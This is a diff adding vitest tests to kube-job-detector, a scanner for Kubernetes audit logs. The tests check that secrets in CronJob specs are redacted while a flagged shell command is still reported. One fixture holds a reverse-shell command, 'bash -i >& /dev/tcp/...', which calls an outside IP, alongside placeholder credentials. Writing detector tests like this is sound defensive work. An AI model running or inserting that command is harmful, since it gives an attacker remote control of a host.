@@ -5,6 +5,7 @@ import { describe, expect, it } from 'vitest';
 import { FINDING_COLUMNS } from '../../src/findings/schema.js';
 import { cli } from '../helpers/cli.js';
 import { activityRecord } from '../helpers/detector.js';
+import { aksRecord, auditEvent, cronJobBody, podSpec } from '../helpers/audit.js';
 import { REPO_ROOT } from '../helpers/shared.js';
 
 const SAMPLES = join(REPO_ROOT, 'samples', 'activity-log');
@@ -136,5 +137,47 @@ describe('kube-job-detector scan', () => {
     expect((await cli('scan', '--format', 'xml', SAMPLES)).code).toBe(2);
     expect((await cli('scan')).code).toBe(2);
     expect((await cli('scan', '--rules', '/nonexistent/rules', SAMPLES)).code).toBe(2);
+  });
+});
+
+describe('kube-job-detector scan: what findings keep', () => {
+  const writeSecretJob = (): string => {
+    const dir = tmp();
+    const event = auditEvent({
+      requestObject: cronJobBody(
+        podSpec({
+          image: 'alpine:3.20',
+          command: [
+            'sh',
+            '-c',
+            'psql postgresql://app:S3cr3tPassw0rd@db:5432/x; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
+          ],
+          env: [{ name: 'API_TOKEN', value: 'tok-4f9a8b7c6d5e' }],
+        }),
+      ),
+    });
+    writeFileSync(join(dir, 'audit.json'), JSON.stringify({ records: [aksRecord(event)] }));
+    return dir;
+  };
+
+  it('redacts secrets by default, keeps them with --no-redact, and keeps the shell either way', async () => {
+    const dir = writeSecretJob();
+    const redacted = await cli('scan', '--format', 'jsonl', dir);
+    expect(redacted.code).toBe(0);
+    expect(redacted.stdout).toContain('bash -i >& /dev/tcp/203.0.113.7/4444');
+    expect(redacted.stdout).not.toContain('S3cr3tPassw0rd');
+    expect(redacted.stdout).not.toContain('tok-4f9a8b7c6d5e');
+    expect(redacted.stdout).toContain('[redacted:env:');
+    const kept = await cli('scan', '--format', 'jsonl', '--no-redact', dir);
+    expect(kept.stdout).toContain('S3cr3tPassw0rd');
+    expect(kept.stdout).toContain('tok-4f9a8b7c6d5e');
+  });
+
+  it('prints each finding as it comes in table mode, with the event time', async () => {
+    const { stdout } = await cli('scan', writeSecretJob());
+    const lines = stdout.trim().split('\n');
+    expect(lines[0]).toMatch(/^TIME \(UTC\)/);
+    expect(lines.filter((l) => l.startsWith('TIME'))).toHaveLength(1);
+    expect(lines[1]).toMatch(/^2025-03-04 09:15:27\s+\S{8}\s+critical|high/);
   });
 });
